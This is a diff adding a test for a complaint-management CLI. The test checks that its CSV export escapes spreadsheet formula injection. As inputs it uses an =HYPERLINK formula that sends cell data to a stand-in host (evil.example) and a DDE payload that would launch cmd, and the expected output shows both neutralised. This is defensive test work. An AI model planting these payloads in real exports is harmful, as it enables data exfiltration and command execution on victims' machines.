@@ -41,3 +41,29 @@ environment, with ESC, BEL and a right-to-left override in it, is quoted escaped
   $ KEFU_NOW=$'2026-11-26\xe2\x80\xae03:90' kefu complaint list
   kefu: 时间「2026-11-26\u202e03:90」无效，应如 2026-11-26T09:30 或 2026-11-26 09:30
   [2]
+
+A CSV cell that a spreadsheet would evaluate as a formula gets a leading ' (OWASP "CSV
+injection"): one beginning with = + - @ (or the full-width ＝＋－＠), a tab or a carriage
+return. "-12.50" is a number, not a formula, and stays as it is, so that a money column stays
+numbers.
+
+  $ cp -r "$TESTDIR/fixtures/estate" e
+  $ kefu --data e complaint open --unit 1-1-102 --category 噪音扰民 --desc '=HYPERLINK("http://evil.example/?"&A1,"点此查看")' >/dev/null 2>&1
+  $ kefu --data e complaint open --place 北门 --category 其他 --desc '@SUM(1+1)*cmd|" /C calc"!A0' >/dev/null 2>&1
+  $ kefu --data e complaint open --place 北门 --category 其他 --desc '＝1+1' >/dev/null 2>&1
+  $ kefu --data e complaint open --place 北门 --category 其他 --desc '-2+3' >/dev/null 2>&1
+  $ kefu --data e complaint open --place 北门 --category 其他 --desc '-12.50' >/dev/null 2>&1
+  $ kefu --data e complaint list --format csv
+  ﻿id,status,received_at,channel,unit,place,category,severity,description,owner,assigned_to,acknowledged_at,resolved_at,resolution,response_due,resolution_due,callback_due,overdue
+  TS-2026-11-0001,open,2026-11-26T09:30,phone,1-1-102,,噪音扰民,general,"'=HYPERLINK(""http://evil.example/?""&A1,""点此查看"")",zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
+  TS-2026-11-0002,open,2026-11-26T09:30,phone,,北门,其他,general,"'@SUM(1+1)*cmd|"" /C calc""!A0",zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
+  TS-2026-11-0003,open,2026-11-26T09:30,phone,,北门,其他,general,'＝1+1,zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
+  TS-2026-11-0004,open,2026-11-26T09:30,phone,,北门,其他,general,'-2+3,zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
+  TS-2026-11-0005,open,2026-11-26T09:30,phone,,北门,其他,general,-12.50,zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
+  $ kefu --data e contact list --format csv
+  ﻿id,kind,type,received_at,channel,category,name,unit,phone,owner,status,subject
+  TS-2026-11-0001,complaint,complaint,2026-11-26T09:30,phone,噪音扰民,林小红,1-1-102,139****4321,zhangmin,待响应,"'=HYPERLINK(""http://evil.example/?""&A1,""点此查看"")"
+  TS-2026-11-0002,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,"'@SUM(1+1)*cmd|"" /C calc""!A0"
+  TS-2026-11-0003,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,'＝1+1
+  TS-2026-11-0004,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,'-2+3
+  TS-2026-11-0005,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,-12.50
